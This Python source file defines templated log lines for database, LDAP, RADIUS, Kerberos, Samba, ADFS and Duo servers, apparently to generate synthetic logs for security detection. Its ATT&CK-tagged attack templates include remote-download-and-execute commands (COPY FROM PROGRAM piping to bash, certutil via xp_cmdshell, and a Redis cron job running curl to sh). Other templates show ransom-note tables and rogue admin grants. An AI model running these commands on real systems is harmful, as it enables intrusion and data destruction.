"""Messages of databases, directories, login servers and backup products."""

from generator.families.network.product_story import catalogue

catalogue("network/product-database-servers", ("|{msg}", "={plain} {msg}", "={iso} {msg}"), r"""
BF# [Note] Access denied for user '{adm}'@'{wan}' (using password: YES)
PS# [Warning] Access denied for user '{word}'@'{any}' (using password: YES)
PT@T1505.001 [Note] 'CREATE FUNCTION sys_exec RETURNS int SONAME 'lib_mysqludf_sys.so'' by root@{wan}
RB@T1485 {many} Query DROP DATABASE `{company}`
+ {many} Query CREATE TABLE <<WARNING|README|PLEASE_READ>> (id INT, warning TEXT, bitcoin_address VARCHAR(100), email VARCHAR(100))
BF# FATAL:  password authentication failed for user "postgres" client={wan}
+ DETAIL:  Connection matched pg_hba.conf line {n}: "host all all 0.0.0.0/0 md5"
CI+@T1059.004,T1190 LOG:  statement: DROP TABLE IF EXISTS {word};CREATE TABLE {word}(cmd_output text);COPY {word} FROM PROGRAM 'echo {long}|base64 -d|bash'; client={wan}
PT@T1098 LOG:  statement: CREATE ROLE {word} SUPERUSER LOGIN PASSWORD '***' client={wan} user=postgres
BF# Logon       Error: 18456, Severity: 14, State: 8. Login failed for user 'sa'. Reason: Password did not match that for the login provided. [CLIENT: {any}]
PS# Logon       Login failed for user '{word}'. Reason: Could not find a login matching the name provided. [CLIENT: {wan}]
CI@T1059.003,T1505.001 spid{n}       Configuration option 'xp_cmdshell' changed from 0 to 1. Run the RECONFIGURE statement to install.
CI@T1059.003,T1505.001 spid{n}       xp_cmdshell: certutil -urlcache -f http://{wan}/{word}.exe c:\users\public\{word}.exe executed by sa
PT@T1505.001 spid{n}       Configuration option 'Ole Automation Procedures' changed from 0 to 1. Run the RECONFIGURE statement to install.
BF# ORA-01017: invalid username/password; logon denied; USERID: "<<SYS|SYSTEM|DBSNMP|SCOTT>>" HOST={any}
BF# ORA-28000: the account is locked; USERID: "<<SYSTEM|SYS|SCOTT|APPS>>" HOST={wan}
BF# {"s":"I","c":"ACCESS","id":20249,"ctx":"conn{big}","msg":"Authentication failed","attr":{"mechanism":"SCRAM-SHA-256","principalName":"{adm}","remote":"{wan}:{port}","error":"AuthenticationFailed: SCRAM authentication failed, storedKey mismatch"}}
RB@T1485 {"s":"I","c":"COMMAND","ctx":"conn{big}","msg":"dropDatabase - starting","attr":{"db":"{company}"}}
+ {"s":"I","c":"STORAGE","id":20320,"ctx":"conn{big}","msg":"createCollection","attr":{"namespace":"<<READ__ME_TO_RECOVER_YOUR_DATA|README_TO_RESTORE|WARNING_HACKED>>.README"}}
RX+ redis: {wan}:{port} CONFIG SET dir /var/spool/cron/; CONFIG SET dbfilename root; SET x "\n*/2 * * * * curl {wan2}/{word}|sh\n"; SAVE
RX@T1190,T1105 redis: REPLICAOF {wan}:{port} enabled (user request from 'id={n} addr={wan2}:{port} fd=8 name= db=0 cmd=slaveof')
+ redis: Module 'system' loaded from ./<<exp|exp_lin|red2|{word}>>.so
""", r"""
MP. [Note] Access denied for user '{user}'@'{lan}' (using password: YES)
MP. [Note] Access denied for user 'root'@'localhost' (using password: NO)
SY [Warning] Aborted connection {many} to db: '{company}' user: '{service}' host: '{lan}' (Got timeout reading communication packets)
SY [ERROR] InnoDB: Unable to lock ./ibdata1 error: 11
SY [ERROR] mysqld: Table './{word}/sessions' is marked as crashed and should be repaired
SY [Warning] Host '{lan}' is blocked because of many connection errors; unblock with 'mysqladmin flush-hosts'
SY [Note] InnoDB: page_cleaner: 1000ms intended loop took {big}ms
ER [ERROR] Slave SQL: Error 'Duplicate entry '{n}' for key 'PRIMARY'' on query, Error_code: 1062
AD [Note] 'CREATE USER '{service}'@'{lan}'' by {adm}@{lan}; GRANT SELECT ON {company}.*
SY FATAL:  the database system is starting up
SY FATAL:  sorry, too many clients already
SY FATAL:  terminating connection due to administrator command
SY PANIC:  could not write to file "pg_wal/xlogtemp.{n}": No space left on device
ER ERROR:  deadlock detected
+ DETAIL:  Process {big} waits for ShareLock on transaction {id}; blocked by process {big}.
ER ERROR:  duplicate key value violates unique constraint "{word}_pkey"
MP. FATAL:  password authentication failed for user "{user}"
SY LOG:  checkpoints are occurring too frequently ({n} seconds apart)
SY LOG:  automatic vacuum of table "{company}.public.orders": index scans: 1
AD LOG:  statement: CREATE ROLE report_reader LOGIN; GRANT SELECT client=[local] user=postgres
BA LOG:  statement: COPY public.orders TO stdout; user=backup client={lan} (pg_dump)
ER Logon       Login failed for user '{company}\{user}'. Reason: Failed to open the explicitly specified database '{word}'. [CLIENT: {lan}]
SY spid{n}s     SQL Server has encountered {n} occurrence(s) of I/O requests taking longer than 15 seconds to complete on file [D:\Data\{company}.mdf]
SY spid{n}      Error: 9002, Severity: 17. The transaction log for database '{company}' is full due to 'LOG_BACKUP'.
SY spid{n}      Error: 823, Severity: 24, State: 2. The operating system returned error 21 (device not ready)
BA Backup      Database backed up. Database: {company}, creation date(time): {date}, pages dumped: {big}
AD spid{n}       Configuration option '<<max server memory (MB)|cost threshold for parallelism|show advanced options|Database Mail XPs>>' changed from 0 to {big}. Run the RECONFIGURE statement to install.
SY ORA-00060: deadlock detected while waiting for resource
SY ORA-01555: snapshot too old: rollback segment number {n}
SY ORA-12514: TNS:listener does not currently know of service requested in connect descriptor; HOST={lan}
MP. ORA-01017: invalid username/password; logon denied; USERID: "{user}" HOST={pc}
MP. ORA-28001: the password has expired; USERID: "{user}" HOST={pc}
LO {"s":"I","c":"ACCESS","id":20250,"ctx":"conn{big}","msg":"Authentication succeeded","attr":{"mechanism":"SCRAM-SHA-256","principalName":"{service}","remote":"{lan}:{port}"}}
NS {"s":"I","c":"NETWORK","id":22943,"ctx":"listener","msg":"Connection accepted","attr":{"remote":"{lan}:{port}","connectionCount":{n}}}
AD {"s":"I","c":"COMMAND","ctx":"conn{big}","msg":"dropDatabase - starting","attr":{"db":"{word}_test","remote":"127.0.0.1"}}
SY redis: WARNING overcommit_memory is set to 0! Background save may fail under low memory condition.
SY redis: MASTER <-> REPLICA sync: Finished with success
ER redis: MISCONF Redis is configured to save RDB snapshots, but it's currently unable to persist to disk
SY redis: REPLICAOF {lan}:6379 enabled (user request from 'id={n} addr={lan2}:{port} fd=9 name=sentinel-cmd db=0 cmd=exec')
SY redis: Module '<<ReJSON|search|timeseries|bf>>' loaded from /opt/redis-stack/lib/<<rejson|redisearch|redistimeseries|redisbloom>>.so
BA mysqldump of {n} databases by {service}@localhost to /backup, {huge} bytes
""")

catalogue("network/product-directories", ("|{msg}", "={plain} {msg}"), r"""
BF# slapd[{n}]>> conn={big} op=0 RESULT tag=97 err=49 text= (BIND dn="cn=admin,dc={company}" from IP={any}:{port})
PS# slapd[{n}]>> conn={big} op=0 BIND dn="uid={user2},ou=people,dc={company}" method=128 IP={any}:{port} RESULT tag=97 err=49
UE# slapd[{n}]>> conn={big} op={n} SRCH base="ou=people,dc={company}" scope=2 filter="(uid={word}*)" IP={wan}:{port} nentries=0
BF# radiusd[{n}]>> ({big}) Login incorrect (mschap: MS-CHAP2-Response is incorrect): [{user}/<via Auth-Type = MSCHAP>] (from client vpn port {n} cli {wan})
PS# radiusd[{n}]>> ({big}) Invalid user: [{word}/<via Auth-Type = PAP>] (from client vpn port 0 cli {any})
KD# krb5kdc[{n}]>> TGS_REQ (1 etypes {rc4-hmac}) {lan}: ISSUE: authtime {seconds}, etypes {rep=18 tkt=23 ses=23}, {user}@{domain} for <<MSSQLSvc|HTTP|CIFS|HOST|POP>>/{host}@{domain}
KD#@T1558.004 krb5kdc[{n}]>> AS_REQ (1 etypes {rc4-hmac}) {any}: ISSUE: authtime {seconds}, etypes {rep=23 tkt=23 ses=23}, {user2}@{domain} for krbtgt/{domain}
BF# krb5kdc[{n}]>> AS_REQ (8 etypes) {any}: PREAUTH_FAILED: {adm}@{domain} for krbtgt/{domain}, Preauthentication failed
PT@T1098.007 samba: {"type":"groupChange","groupChange":{"action":"Added","user":"CN={word}","group":"CN=Domain Admins"},"remoteAddress":"ipv4:{wan}:{port}"}
UE# samba: {"Authentication":{"status":"NT_STATUS_NO_SUCH_USER","clientAccount":"{word}","remoteAddress":"ipv4:{lan}:{port}","authDescription":"simple bind"}}
PS# adfs: Event 411 token validation failed: {user2}@{domain}-The user name or password is incorrect, client {wan}
AT@T1621 duo: {"result":"denied","reason":"user marked fraud","username":"{user}","ip":"{wan}","integration":"VPN","factor":"push"}
BF# NPS: IAS 6273 Network Policy Server denied access to a user. Account {adm}, Calling Station {any}, Reason Code 16
""", r"""
LO slapd[{n}]>> conn={big} op=0 BIND dn="uid={user},ou=people,dc={company}" mech=SIMPLE ssf=0
+ slapd[{n}]>> conn={big} op=0 RESULT tag=97 err=0 text=
MP. slapd[{n}]>> conn={big} op=0 RESULT tag=97 err=49 text= (BIND dn="uid={user},ou=people,dc={company}" from IP={lan}:{port})
NS slapd[{n}]>> conn={big} op={n} SRCH base="dc={company}" scope=2 deref=0 filter="(&(objectClass=posixAccount)(uid={user}))"
NS slapd[{n}]>> <= mdb_equality_candidates: (uidNumber) not indexed
SY slapd[{n}]>> do_syncrep2: rid=00{few} LDAP_RES_INTERMEDIATE - REFRESH_DELETE
ER slapd[{n}]>> connection_read({n}): TLS negotiation failure, error=-1 id={big}
LO radiusd[{n}]>> ({big}) Login OK: [{user}/<via Auth-Type = eap>] (from client ap{n} port 0 cli {macdash})
MP. radiusd[{n}]>> ({big}) Login incorrect (mschap: MS-CHAP2-Response is incorrect): [{user}] (from client ap{n} port 0 cli {macdash})
NS radiusd[{n}]>> Ignoring request to auth address * port 1812 from unknown client {lan} port {port}
ER radiusd[{n}]>> Error: rlm_ldap (ldap): Opening connection failed ({few})
ER radiusd[{n}]>> ({big}) eap_tls: ERROR: TLS Alert read:fatal:unknown CA
SY radiusd[{n}]>> Error: Child PID {big} is taking too much time: forcing failure and killing child.
LO krb5kdc[{n}]>> AS_REQ (8 etypes {aes256-cts}) {lan}: ISSUE: authtime {seconds}, {user}@{domain} for krbtgt/{domain}
MP. krb5kdc[{n}]>> AS_REQ (8 etypes) {any}: PREAUTH_FAILED: {user}@{domain} for krbtgt/{domain}, Preauthentication failed
NS krb5kdc[{n}]>> AS_REQ (8 etypes) {lan}: NEEDED_PREAUTH: {user}@{domain} for krbtgt/{domain}, Additional pre-authentication required
MP. krb5kdc[{n}]>> CLIENT KEY EXPIRED: {user}@{domain} for krbtgt/{domain}, Password has expired
NS krb5kdc[{n}]>> TGS_REQ (4 etypes) {lan}: LOOKING_UP_SERVER: {user}@{domain} for HTTP/{word}, Server not found in Kerberos database
ER krb5kdc[{n}]>> Clock skew too great: {host}@{domain}
AD ipa: [IPA.API] {adm}@{domain}: <<user_add('{user2}')|host_mod('{host}')|passwd('{user}')|hbacrule_add_user('dev')>>: SUCCESS
ER ipa: [IPA.API] {user}@{domain}: user_show('{user2}'): NotFound
SY ipa-healthcheck: ReplicationCheck: {few} agreements ok, certificate expires in {n} days
SY ns-slapd: NSMMReplicationPlugin - bind_and_check_pwp: agmt="cn=meTo{host}": Replication bind with GSSAPI auth failed: LDAP error -1
NS samba[{n}]>> drsuapi replication with {host} ({lan}) finished, {many} objects
ER samba[{n}]>> WERR_BAD_NETPATH: failed to connect to DC {host}
LO samba: {"Authentication":{"status":"NT_STATUS_OK","clientAccount":"{user}","remoteAddress":"ipv4:{lan}:{port}","authDescription":"NETLOGON"}}
MP. samba: {"Authentication":{"status":"NT_STATUS_WRONG_PASSWORD","clientAccount":"{user}","remoteAddress":"ipv4:{lan}:{port}"}}
AD samba: {"type":"groupChange","groupChange":{"action":"Added","user":"CN={user}","group":"CN=VPN Users"},"remoteAddress":"ipv4:{lan}:{port}"}
LO adfs: Event 1200 The Federation Service issued a valid token, user {mail}, client {any}
MP. adfs: Event 411 token validation failed: {mail}-The password has expired
SY adfs: Event 385 certificates of the trust expire in {n} days
LO duo: {"result":"success","reason":"user approved","username":"{user}","ip":"{any}","integration":"VPN","factor":"push"}
MP. duo: {"result":"denied","reason":"no response","username":"{user}","ip":"{any}","integration":"RDP","factor":"push"}
AD duo: administrator {adm} issued bypass code for {user}
MP. NPS: IAS 6273 Network Policy Server denied access to a user. Account {user}, Calling Station {macdash}, Reason Code 16
""")
